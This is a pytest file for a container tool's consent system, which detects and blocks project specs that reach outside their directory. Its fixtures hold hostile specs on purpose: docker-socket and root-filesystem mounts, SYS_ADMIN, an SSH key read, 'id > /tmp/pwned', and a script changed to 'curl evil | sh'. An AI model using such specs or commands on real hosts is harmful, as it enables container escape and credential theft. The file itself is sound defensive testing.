"""What a spec reaches outside its project (``envd.inputs.consent``) and this user's
approvals of it (``envd.inputs.approvals``): the hostile cases and the happy one."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path
from types import SimpleNamespace

import pytest

from envd.inputs import approvals, consent
from envd.inputs.consent import ConsentRequired, ReachItem, reach, require, unapproved
from envd.spec.load import LoadedSpec, load
from envd.values.errors import UsageError

HOSTILE = """\
[project]
name = "planted"

[services.web]
image = "web:1"
secrets = ["token"]
volumes = [
  "./data:/data",
  "{outside}:/host",
  "/var/run/docker.sock:/var/run/docker.sock",
  "./sneaky:/sneaky",
]
env_file = ["{outside_env}"]

[services.tools]
image = "tools:1"
profiles = ["debug"]
volumes = ["/:/rootfs:ro"]
cap_add = ["SYS_ADMIN"]

[services.builder]
build = "{outside}"

[volumes.sneaky]
driver_opts = {{ type = "none", o = "bind", device = "{outside}" }}

[secrets.token]
command = ["sh", "-c", "id > /tmp/pwned"]

[secrets.key]
file = "{outside}/id_rsa"
"""


@pytest.fixture(autouse=True)
def _state_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Approvals go to a temporary state directory; no approval from the outside."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.delenv("ENVD_ALLOW", raising=False)


@pytest.fixture
def planted(tmp_path: Path) -> LoadedSpec:
    """A cloned repository whose spec tries every kind of reach."""
    outside = tmp_path / "home"
    outside.mkdir()
    (outside / "id_rsa").write_text("key")
    (outside / "cloud.env").write_text("AWS_SECRET=x\n")
    (outside / "Dockerfile").write_text("FROM scratch\nCOPY . /\n")
    root = tmp_path / "repo"
    root.mkdir()
    (root / "data").mkdir()
    (root / "sneaky").symlink_to(outside)  # inside by name, outside in fact
    (root / "envd.toml").write_text(
        HOSTILE.format(outside=outside, outside_env=outside / "cloud.env")
    )
    return load(root, environ={})


def _kinds(items: list[ReachItem]) -> list[tuple[str, str]]:
    return [(i.kind, i.what[0]) for i in items]


def test_reach_lists_every_kind_of_reach_with_where_it_was_written(
    planted: LoadedSpec, tmp_path: Path
) -> None:
    """A planted spec's command, outside binds (a symlink too), socket, env_file, secret file, build context, a bind-like named volume and a profile's bind are all listed, each with file:line."""
    home = str(tmp_path / "home")
    items = reach(planted, {})
    assert sorted(_kinds(items)) == sorted(
        [
            ("bind", home),
            ("docker-socket", os.path.realpath("/var/run/docker.sock")),
            ("bind", home),  # ./sneaky resolves out of the project
            ("env-file", f"{home}/cloud.env"),
            ("docker-socket", "/"),  # the root holds the engine socket too
            ("command", "sh"),
            ("secret-file", f"{home}/id_rsa"),
            ("build-context", home),
            ("bind", home),  # a named volume that is a bind by another name
            ("host-mode", "cap_add=['SYS_ADMIN']"),
        ]
    )
    assert ("bind", str(tmp_path / "repo" / "data")) not in _kinds(items)
    origins = {i.kind + " " + i.what[0]: i.origin for i in items}
    assert origins["command sh"].endswith("envd.toml:28")
    assert all(i.origin.rpartition(":")[2].isdigit() for i in items)


def test_a_spec_inside_its_project_reaches_nothing(tmp_path: Path) -> None:
    """Binds and env_files under the project, file and env secrets there: nothing to approve, up needs no approval."""
    (tmp_path / "data").mkdir()
    (tmp_path / "a.env").write_text("A=1\n")
    (tmp_path / "s.txt").write_text("v")
    (tmp_path / "envd.toml").write_text(
        '[services.web]\nimage = "web:1"\nvolumes = ["./data:/data"]\nenv_file = ["a.env"]\n'
        'secrets = ["s"]\n[secrets.s]\nfile = "s.txt"\n'
    )
    loaded = load(tmp_path, environ={})
    assert reach(loaded, {}) == []
    require(loaded, {})  # does not raise


def test_the_engine_socket_named_by_docker_host_counts(tmp_path: Path) -> None:
    """A bind of whatever socket DOCKER_HOST names (or the directory holding it) is the engine's socket."""
    sock_dir = tmp_path / "run"
    sock_dir.mkdir()
    (sock_dir / "engine.sock").touch()
    root = tmp_path / "p"
    root.mkdir()
    (root / "envd.toml").write_text(
        f'[services.web]\nimage = "web:1"\nvolumes = ["{sock_dir}:/run/host"]\n'
    )
    items = reach(load(root, environ={}), {"DOCKER_HOST": f"unix://{sock_dir}/engine.sock"})
    assert _kinds(items) == [("docker-socket", str(sock_dir))]


def test_host_modes_are_one_table_row_each() -> None:
    """privileged, host-reaching capabilities and host namespaces are checked from one table, so a new spec field needs one line there."""
    fields = {f for f, _, _ in consent._HOST_FIELDS}
    assert {"privileged", "network_mode", "pid", "ipc"} <= fields
    svc = SimpleNamespace(
        volumes=[],
        env_file=[],
        build=None,
        privileged=True,
        cap_add=["NET_ADMIN", "cap_sys_admin"],
        network_mode="host",
        pid=None,
    )
    loaded = SimpleNamespace(
        spec=SimpleNamespace(services={"web": svc}),
        bind_sources={},
        project_dir=Path("/nonexistent-project"),
    )
    items = list(
        consent._service_reach("web", loaded, "/nonexistent-project", [], lambda *_: "envd.toml:3")  # type: ignore[arg-type]
    )
    assert [(i.kind, i.what[0]) for i in items] == [
        ("host-mode", "privileged=True"),
        ("host-mode", "cap_add=['NET_ADMIN', 'cap_sys_admin']"),
        ("host-mode", "network_mode=host"),
    ]


def test_up_refuses_until_allowed_and_a_changed_argv_needs_a_new_approval(
    planted: LoadedSpec,
) -> None:
    """require raises naming the first item; after approve it passes; a changed argv is unapproved again."""
    with pytest.raises(ConsentRequired) as refused:
        require(planted, {})
    assert "which this user has not approved" in str(refused.value)
    assert "envd allow" in str(refused.value)
    approvals.approve(planted, reach(planted, {}), None)
    require(planted, {})
    text = planted.file.read_text()
    planted.file.write_text(text.replace("id > /tmp/pwned", "id > /tmp/pwned2"))
    changed = load(planted.project_dir, environ={})
    missing = unapproved(changed, {})
    assert [(i.kind, i.what) for i in missing] == [("command", ("sh", "-c", "id > /tmp/pwned2"))]
    with pytest.raises(ConsentRequired, match="pwned2"):
        require(changed, {})


def test_moving_a_line_keeps_the_approval(planted: LoadedSpec) -> None:
    """The digest covers what an item does, not where it was written."""
    approvals.approve(planted, reach(planted, {}))
    planted.file.write_text("# a comment\n\n" + planted.file.read_text())
    assert unapproved(load(planted.project_dir, environ={}), {}) == []


def test_a_script_in_the_repository_is_approved_by_its_bytes(tmp_path: Path) -> None:
    """A path-like argv[0] is approved with its content: editing the script needs a new approval."""
    (tmp_path / "get.sh").write_text("#!/bin/sh\necho v\n")
    (tmp_path / "envd.toml").write_text(
        '[services.web]\nimage = "web:1"\nsecrets = ["s"]\n[secrets.s]\ncommand = ["./get.sh"]\n'
    )
    loaded = load(tmp_path, environ={})
    approvals.approve(loaded, reach(loaded, {}))
    assert unapproved(loaded, {}) == []
    (tmp_path / "get.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    assert [i.kind for i in unapproved(loaded, {})] == ["command"]


def test_envd_allow_variable_approves_one_run_without_recording(planted: LoadedSpec) -> None:
    """ENVD_ALLOW=1 (CI) passes the check and records nothing; any other value does not."""
    require(planted, {"ENVD_ALLOW": "1"})
    assert approvals.listing() == []
    with pytest.raises(ConsentRequired):
        require(planted, {"ENVD_ALLOW": "yes"})


def test_approvals_are_private_and_revocable(planted: LoadedSpec, tmp_path: Path) -> None:
    """The directory is 0700, the file 0600; list shows the approval; revoke removes it."""
    approvals.approve(planted, reach(planted, {}))
    folder = tmp_path / "state" / "envd"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE((folder / approvals.FILE).stat().st_mode) == 0o600
    (entry,) = approvals.listing()
    assert entry["file"] == os.path.realpath(planted.file) and len(entry["items"]) == 10
    assert approvals.revoke(approvals.key_of(planted)) is True
    assert approvals.revoke(approvals.key_of(planted)) is False
    with pytest.raises(ConsentRequired):
        require(planted, {})


def test_a_symlinked_approvals_file_is_refused(planted: LoadedSpec, tmp_path: Path) -> None:
    """An approvals file that is a link is neither read nor written through (its target stays as it was)."""
    folder = tmp_path / "state" / "envd"
    folder.mkdir(parents=True, mode=0o700)
    victim = tmp_path / "victim.json"
    victim.write_text(json.dumps({"format": 1, "approvals": {}}))
    (folder / approvals.FILE).symlink_to(victim)
    with pytest.raises(UsageError, match="symbolic link"):
        approvals.approve(planted, reach(planted, {}))
    with pytest.raises(UsageError, match="symbolic link"):
        unapproved(planted, {})
    assert json.loads(victim.read_text()) == {"format": 1, "approvals": {}}


def test_a_shared_or_linked_state_directory_is_refused(planted: LoadedSpec, tmp_path: Path) -> None:
    """A group-writable state directory, or one that is a link, holds no approval envd trusts."""
    folder = tmp_path / "state" / "envd"
    folder.mkdir(parents=True)
    folder.chmod(0o777)
    with pytest.raises(UsageError, match="others may write"):
        approvals.approve(planted, reach(planted, {}))
    folder.rmdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir(mode=0o700)
    folder.symlink_to(elsewhere)
    with pytest.raises(UsageError, match="not a directory"):
        approvals.approve(planted, reach(planted, {}))
    assert list(elsewhere.iterdir()) == []


def test_a_planted_approval_in_a_foreign_file_mode_is_refused(
    planted: LoadedSpec, tmp_path: Path
) -> None:
    """An approvals file others could have written (mode 0644) is not believed."""
    approvals.approve(planted, reach(planted, {}))
    (tmp_path / "state" / "envd" / approvals.FILE).chmod(0o644)
    with pytest.raises(UsageError, match="mode 0600"):
        unapproved(planted, {})


def test_the_daemon_keeps_what_runs_until_the_spec_is_approved(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A daemon pass over an unapproved command secret is an invalid spec: no command, no
    container; approved and given the value `envd up` read, it converges, still running nothing."""
    from envd.inputs.secrets import CommandValue
    from tests.helpers import DaemonWorld

    monkeypatch.setenv("ENVD_HASH_KEY", "ab" * 32)
    marker = tmp_path / "marker"
    root = tmp_path / "unitd"
    root.mkdir()
    world = DaemonWorld(root)
    world.write(
        '[project]\nname = "unitd"\n\n[services.web]\nimage = "envd-local/busybox:latest"\n'
        'command = ["sleep", "3600"]\nsecrets = ["tok"]\n\n[secrets.tok]\n'
        f'command = ["sh", "-c", "echo ran >> {marker}; echo v"]\n'
    )
    world.reconciler.trigger("test")
    world.run_next()
    assert world.reconciler.state.last_result == "invalid-spec"
    assert "has not approved" in world.reconciler.state.last_error
    assert world.containers() == {} and not marker.exists()
    loaded = load(root, environ={})
    approvals.approve(loaded, reach(loaded))
    command = tuple(loaded.spec.secrets["tok"].command or ())
    world.reconciler.trigger("envd up", commands={"tok": CommandValue(command, b"v")})
    world.converge()
    assert list(world.containers()) == ["unitd-web-1"] and not marker.exists()


def test_the_socket_of_the_current_docker_context_is_the_engines(tmp_path: Path) -> None:
    """A bind of the socket the Docker CLI's current context names counts as the engine's socket."""
    import hashlib
    import json

    from envd.inputs.consent import engine_sockets

    config = tmp_path / "docker-config"
    meta = config / "contexts" / "meta" / hashlib.sha256(b"pod").hexdigest()
    meta.mkdir(parents=True)
    sock = tmp_path / "podman.sock"
    doc = {"Name": "pod", "Endpoints": {"docker": {"Host": f"unix://{sock}"}}}
    (meta / "meta.json").write_text(json.dumps(doc))
    (config / "config.json").write_text(json.dumps({"currentContext": "pod"}))
    found = engine_sockets({"DOCKER_CONFIG": str(config)})
    assert os.path.realpath(sock) in found
    assert os.path.realpath("/run/podman/podman.sock") in found
